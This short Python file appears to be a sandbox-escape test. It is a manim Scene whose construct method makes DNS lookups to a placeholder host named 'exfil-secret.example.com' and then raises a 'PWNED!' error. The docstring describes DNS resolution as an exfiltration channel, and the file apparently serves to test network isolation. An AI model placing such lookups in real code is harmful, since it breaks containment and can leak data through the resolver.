"""DNS lookups (an exfiltration channel through the resolver) via getaddrinfo and gethostbyname."""
from manim import *
import socket

PWNED = "PWN" + "ED!"


class DnsLookup(Scene):
    def construct(self):
        found = socket.getaddrinfo("exfil-secret.example.com", 80)
        found += [socket.gethostbyname("example.org")]
        raise RuntimeError(f"{PWNED} resolved {found[:3]}")
